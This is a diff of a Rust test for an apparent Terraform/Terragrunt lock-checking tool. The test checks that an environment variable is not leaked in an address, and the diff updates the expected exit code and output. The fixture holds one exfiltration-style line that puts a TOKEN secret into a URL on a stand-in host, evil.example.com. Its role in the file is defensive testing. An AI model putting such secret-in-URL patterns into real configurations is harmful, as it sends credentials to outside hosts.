@@ -57,16 +57,8 @@ fn a_variable_of_the_environment_is_not_shown_in_an_address() {
     let leak = requires("evil.example.com/${get_env(\"TOKEN\")}/null", "");
     let environment = chosen_by_a_variable(&leak);
     verify_verbosely(&environment).assert_lacks("t0ken").matches(str![[r#"
-exit code: 1
+exit code: 0
 ----- stdout -----
-error[provider-not-locked]: hashicorp/tls is required, but not locked
- --> modules/app/main.tf:1:10
-  |
-1 | resource "tls_private_key" "a" {}
-  |          ^^^^^^^^^^^^^^^^^ required here
-  |
-help: provlock -C unit lock
-
 warning[requirements-not-known]: what the unit in unit requires is not known in full
  --> unit/terragrunt.hcl:4:1
   |
@@ -78,7 +70,7 @@ help: terragrunt init -lockfile=readonly checks the whole
 
 ----- stderr -----
 unit: dialect tofu (the lock file); checked 0 providers for no platform, as none is named
-1 error and 1 warning in modules/app/main.tf and unit/terragrunt.hcl
+1 warning in unit/terragrunt.hcl
 "#]]);
 }
 
